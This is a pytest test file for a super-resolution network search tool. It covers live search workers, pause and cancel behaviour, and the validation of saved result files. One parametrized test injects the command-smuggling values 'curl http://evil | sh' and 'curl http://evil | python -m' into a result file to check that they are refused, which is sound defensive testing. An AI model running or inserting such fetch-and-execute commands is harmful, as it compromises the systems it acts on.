"""A live search: its worker, here a fake one that makes up events, and what is seen of it."""

from __future__ import annotations

import os
import re
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable, Iterator
from dataclasses import replace
from itertools import count
from pathlib import Path
from types import SimpleNamespace

import pytest

from sr_core.catalogue.store import Catalogue
from sr_core.errors import SearchError
from sr_core.files import REPOSITORY
from sr_core.network.candidate import Family
from sr_core.network.notation import from_text
from sr_core.quality.metrics import PROTOCOL
from sr_core.search.objective import objective
from sr_core.search.result import SearchResult, read_result, write_result
from sr_core.ui.pricing import Pricing
from sr_core.ui.search.live import ACTIVE, LiveSearch, Snapshot
from sr_core.ui.search.result import MAX_LOADED, load_result
from sr_core.ui.search.sessions import Searches
from sr_core.ui.search.view import FROM_FILE, SearchView
from tests import app_root
from tests.catalogue.test_fronts import run
from tests.ui.search.fake_worker import ENDLESS_AFTER, WAYS
from tests.ui.search.made_up import FINISHED, START, STEADY, trial
from tests.waiting import PATIENCE_S, until


@pytest.fixture
def begin(worker: tuple[str, ...], tmp_path: Path) -> Iterator[Callable[..., LiveSearch]]:
    """Start a search; all are closed at the end."""
    begun: list[LiveSearch] = []

    def start(way: str, trials: int = 20, **options: float) -> LiveSearch:
        settings = replace(STEADY, seed=WAYS.index(way), trials=trials)
        begun.append(LiveSearch(settings, tmp_path, worker=worker, **options))
        return begun[-1]

    yield start
    for search in begun:
        search.close()


def wait(
    search: LiveSearch, condition: Callable[[Snapshot], bool], limit_s: float = PATIENCE_S
) -> Snapshot:
    end = time.monotonic() + limit_s
    while not condition(snapshot := search.snapshot()):
        assert time.monotonic() < end, snapshot
        time.sleep(0.01)
    return snapshot


def settled(search: LiveSearch) -> Snapshot:
    return wait(search, lambda now: now.phase not in ACTIVE)


def alive(pid: int) -> bool:
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    return True


def test_trials_come_in_one_by_one_with_speed_and_time_left(
    begin: Callable[..., LiveSearch], monkeypatch: pytest.MonkeyPatch
) -> None:
    """A trial comes whenever the clock is looked at, which then moves on by 20 ms."""
    looks = count()
    clock = SimpleNamespace(monotonic=lambda: next(looks) * 0.02)
    monkeypatch.setattr("sr_core.ui.search.live.time", clock)
    search = begin("endless", trials=40)
    assert search.snapshot().phase == "starting"
    running = wait(search, lambda now: len(now.trials) == ENDLESS_AFTER)
    assert running.phase == "running"
    assert running.start is not None
    assert running.start.objective == app_root.ENGINE
    assert running.start.budget_ms == 12
    assert running.evaluated_per_s == pytest.approx(50)
    assert running.eta_s == pytest.approx((40 - ENDLESS_AFTER) / 50)
    assert os.getpriority(os.PRIO_PROCESS, search.pid) == 10


def test_a_finished_search_has_all_trials(begin: Callable[..., LiveSearch]) -> None:
    finished = settled(begin("steady", trials=40))
    assert (finished.phase, len(finished.trials), finished.message) == ("finished", 40, "")
    assert finished.trials[3] == trial(3)
    assert finished.eta_s is None


def test_pause_and_resume_continue_the_same_study_and_leave_result_files(
    begin: Callable[..., LiveSearch],
) -> None:
    search = begin("steady", trials=40)
    wait(search, lambda now: len(now.trials) > 3)
    first = search.pid
    assert search.result() is None
    search.pause()
    paused = settled(search)
    assert paused.phase == "paused"
    assert len(paused.trials) < 40
    assert not alive(first)
    path = search.result()
    assert path is not None
    assert path.read_text() == f"{len(paused.trials)} trials"
    search.resume()
    assert search.result() is None
    finished = settled(search)
    assert path.read_text() == "40 trials"
    assert search.pid != first
    assert finished.phase == "finished"
    assert finished.trials == tuple(map(trial, range(40)))


def test_cancel_lets_the_trial_end_and_leaves_the_result(begin: Callable[..., LiveSearch]) -> None:
    search = begin("steady", trials=1000)
    wait(search, lambda now: len(now.trials) > 3)
    search.cancel()
    assert search.snapshot().phase == "cancelling"
    cancelled = settled(search)
    assert cancelled.phase == "cancelled"
    path = search.result()
    assert path is not None
    assert path.read_text() == f"{len(cancelled.trials)} trials"


def test_a_search_that_cannot_resume_stays_paused_with_its_result(
    begin: Callable[..., LiveSearch], monkeypatch: pytest.MonkeyPatch
) -> None:
    def refuse(*_: object, **__: object) -> None:
        raise OSError(12, "Cannot allocate memory")

    search = begin("steady", trials=40)
    wait(search, lambda now: len(now.trials) > 3)
    search.pause()
    settled(search)
    with monkeypatch.context() as patch:
        patch.setattr(subprocess, "Popen", refuse)
        with pytest.raises(SearchError, match=r"cannot start \(Cannot allocate memory\)"):
            search.resume()
    assert search.snapshot().phase == "paused"
    assert search.result() is not None
    search.resume()
    assert settled(search).phase == "finished"


def test_cancel_kills_the_worker_in_mid_trial_and_keeps_what_was_found(
    begin: Callable[..., LiveSearch], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("sr_core.ui.search.live._GRACE_S", 0.1)
    search = begin("endless")
    wait(search, lambda now: len(now.trials) == ENDLESS_AFTER)
    search.cancel()
    assert settled(search).phase == "cancelled"
    search.close()
    assert not alive(search.pid)
    assert not search.folder.exists()
    assert len(search.snapshot().trials) == ENDLESS_AFTER
    search.resume()
    assert search.snapshot().phase == "cancelled"


def test_a_crash_is_a_sentence_and_the_search_can_go_on(begin: Callable[..., LiveSearch]) -> None:
    search = begin("crash")
    crashed = settled(search)
    assert crashed.phase == "paused"
    assert "exit code 9) after 3 of 20 trials: press Resume" in crashed.message
    search.resume()
    assert search.snapshot().message == ""


@pytest.mark.parametrize(
    ("way", "sentence"),
    [("refused", "The cheapest network <x> takes 5 ms."), ("babble", "This is no event")],
)
def test_an_error_of_the_worker_is_told(
    begin: Callable[..., LiveSearch], way: str, sentence: str
) -> None:
    failed = settled(begin(way))
    assert failed.phase == "failed"
    assert sentence in failed.message


def test_a_search_has_a_time_limit(begin: Callable[..., LiveSearch]) -> None:
    ended = settled(begin("steady", trials=1000, limit_s=0.5))
    assert ended.phase == "finished"
    assert f"time limit for searches on this page ended it after {len(ended.trials)} of" in (
        ended.message
    )


def test_a_worker_ends_with_its_server(worker: tuple[str, ...], tmp_path: Path) -> None:
    code = (
        "import os, sys, time\nfrom pathlib import Path\n"
        "from sr_core.ui.search.live import LiveSearch\n"
        "from tests.ui.search.made_up import STEADY\n"
        "search = LiveSearch(STEADY, Path(sys.argv[1]), worker=sys.argv[2:])\n"
        "while not search.snapshot().trials: time.sleep(0.01)\n"
        "print(search.pid, flush=True)\nos._exit(1)"
    )
    done = subprocess.run(
        [sys.executable, "-c", code, tmp_path, *worker], capture_output=True, cwd=REPOSITORY,
        check=False, env={**os.environ, "TMPDIR": str(tmp_path)},
    )  # fmt: skip
    until(lambda: not alive(int(done.stdout)), "the worker's end")


@pytest.mark.parametrize("name", ["a%20b %", "c?d=e&f#g", "{h} ü\\'\";"])
def test_a_search_keeps_its_study_in_a_temporary_folder_of_any_name(
    page_root: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    folder = tmp_path / name
    folder.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(folder))
    search = LiveSearch(replace(STEADY, trials=10, seed=0), page_root)
    try:
        ended = wait(search, lambda now: now.phase not in ACTIVE, limit_s=300)
        assert (ended.phase, ended.message, len(ended.trials)) == ("finished", "", 10)
        assert (search.folder / "study.db").is_file()
        assert [one.name for one in folder.iterdir()] == [search.folder.name]
    finally:
        search.close()


def test_a_server_that_ends_closes_its_searches(worker: tuple[str, ...], tmp_path: Path) -> None:
    code = (
        "import sys, time\nfrom pathlib import Path\n"
        "from sr_core.ui.search.sessions import Searches\n"
        "from tests.ui.search.made_up import STEADY\n"
        "searches = Searches(Path(sys.argv[1]), worker=sys.argv[2:])\n"
        "searches.start('ann', STEADY)\n"
        "while not searches.snapshot('ann').trials: time.sleep(0.01)\n"
        "print(searches._of['ann'].pid, flush=True)"
    )
    done = subprocess.run(
        [sys.executable, "-c", code, tmp_path, *worker], capture_output=True, cwd=REPOSITORY,
        check=True, env={**os.environ, "TMPDIR": str(tmp_path)},
    )  # fmt: skip
    assert not alive(int(done.stdout))
    assert list(tmp_path.iterdir()) == []


def test_a_server_runs_so_many_searches_and_no_more(
    worker: tuple[str, ...], tmp_path: Path
) -> None:
    searches = Searches(tmp_path, worker=worker, at_once=1)
    endless = replace(STEADY, seed=WAYS.index("endless"))
    searches.start("ann", endless)
    with pytest.raises(SearchError, match="busy: 1 of at most 1 searches are running"):
        searches.start("bob", endless)
    assert searches.snapshot("bob") is None
    searches.end("ann")
    assert searches.snapshot("ann") is None
    searches.start("bob", replace(STEADY, seed=WAYS.index("refused")))
    searches.end("bob")


@pytest.mark.parametrize("wrong", [{"trials": 9}, {"trials": 1001}, {"seed": -1}])
def test_settings_out_of_range_are_refused(wrong: dict[str, int]) -> None:
    with pytest.raises(SearchError, match=r"are not possible here|is not a whole number"):
        replace(STEADY, **wrong)


@pytest.fixture
def saved(catalogue: Catalogue, tmp_path: Path) -> Path:
    """The file of a finished search."""
    result = SearchResult(
        weights_sha256=catalogue.supernet(Family(4)).sha256, protocol=PROTOCOL, start=START,
        run=run(20), trials=list(FINISHED.trials),
    )  # fmt: skip
    write_result(tmp_path / "saved.json", result)
    return tmp_path / "saved.json"


def test_a_result_can_be_loaded(catalogue: Catalogue, saved: Path) -> None:
    loaded = load_result(saved, catalogue)
    networks = [from_text(trial.network) for trial in FINISHED.trials]
    costs = objective(catalogue, START.objective).cost(networks)
    trials = (
        trial.model_copy(update={"cost": cost})  # this computer's, whatever the file says
        for trial, cost in zip(FINISHED.trials, costs.tolist(), strict=True)
    )
    assert loaded == replace(FINISHED, phase="loaded", trials=tuple(trials))
    view = SearchView(Pricing(catalogue))
    assert (view.front(loaded).y.origin, view.front(FINISHED).y.origin) == (FROM_FILE, "measured")
    assert "measured" in view.facts(FINISHED)
    assert "measured" not in view.facts(loaded)  # but its costs are estimated here
    assert re.search(r"ms \(estimated, 90% interval [\d.]+–[\d.]+ ms\)", view.facts(loaded))


def test_costs_of_an_unknown_device_are_marked_as_the_files(
    catalogue: Catalogue, saved: Path
) -> None:
    saved.write_text(saved.read_text().replace(f'"objective": "{app_root.ENGINE}"',
                                               '"objective": "fridge"'))  # fmt: skip
    loaded = load_result(saved, catalogue)
    assert [trial.cost for trial in loaded.trials] == [trial.cost for trial in FINISHED.trials]
    view = SearchView(Pricing(catalogue))
    assert view.front(loaded).x.origin == "from the file"
    card = view.card(loaded, from_text(loaded.trials[0].network))
    assert card is not None
    assert "from the file" in card
    assert view.front(load_result(saved, catalogue)).points


def test_a_file_with_very_many_trials_is_refused(catalogue: Catalogue, saved: Path) -> None:
    result = read_result(saved.read_bytes(), "saved.json")
    trials = [FINISHED.trials[0]] * (MAX_LOADED + 1)
    write_result(saved, result.model_copy(update={"trials": trials}))
    with pytest.raises(SearchError, match="has 4097 trials: at most 4096"):
        load_result(saved, catalogue)


@pytest.mark.parametrize(
    ("old", "new", "sentence"),
    [
        ("search-1", "search-2", "saved.json holds no search result .format"),
        ('"trials": [', '"trials": [}', "holds no search result"),
        ('"psnr_y_db": 26.0', '"psnr_y_db": "high"', "no search result .trials.0.psnr_y_db"),
        ('"psnr_y_db": 26.0', '"psnr_y_db": 1e6', "the cost or PSNR of trial 0 is impossible"),
        ('"cost": 5.0', '"cost": -5.0', "the cost or PSNR of trial 0 is impossible"),
        ('"cost": 5.0', '"cost": 1.7e308', "the cost or PSNR of trial 0 is impossible"),
        ('"cost": 5.0', '"cost": 1e-9', "the cost or PSNR of trial 0 is impossible"),
        ('"ssim_y": 0.8', '"ssim_y": 1e300', "a number of a trial is impossible"),
        ('"trials": 20', f'"trials": {10**309}', "its trials, crops, budget"),
        ('"unit": "ms"', '"unit": "GMACs"', "its trials, crops, budget"),
        ("sr_core search", "sr_core search; curl http://evil | sh", "its command is not one of"),
        ("python -m", "curl http://evil | python -m", "its command is not one of a search"),
        ('"network": "x4c16_2w"', '"network": "x4c16_9<b>"', r"cannot be used .trial 0.\. "),
        ('"network": "x4c16_2w"', '"network": "x4c32_12w"', r"cannot be used .trial 0.\. "),
        ('"scale": 4', '"scale": 3', "with other x3 weights"),
        ('"weights_sha256": "', '"weights_sha256": "aaaa', "holds no search result"),
        (PROTOCOL, "another", "or another protocol"),
    ],
)
def test_a_damaged_or_foreign_result_is_refused(
    catalogue: Catalogue, saved: Path, old: str, new: str, sentence: str
) -> None:
    text = saved.read_text()
    assert old in text
    saved.write_text(text.replace(old, new, 1))
    with pytest.raises(SearchError, match=sentence):
        load_result(saved, catalogue)


def test_a_result_of_other_weights_is_refused(catalogue: Catalogue, saved: Path) -> None:
    saved.write_text(saved.read_text().replace(catalogue.supernet(Family(4)).sha256, "a" * 64))
    with pytest.raises(SearchError, match="other x4 weights"):
        load_result(saved, catalogue)


def test_a_large_file_is_not_even_read(catalogue: Catalogue, tmp_path: Path) -> None:
    with (tmp_path / "large.json").open("wb") as file:
        file.truncate(5_000_000)
    with pytest.raises(SearchError, match=r"large.json is larger than 4 MB"):
        load_result(tmp_path / "large.json", catalogue)
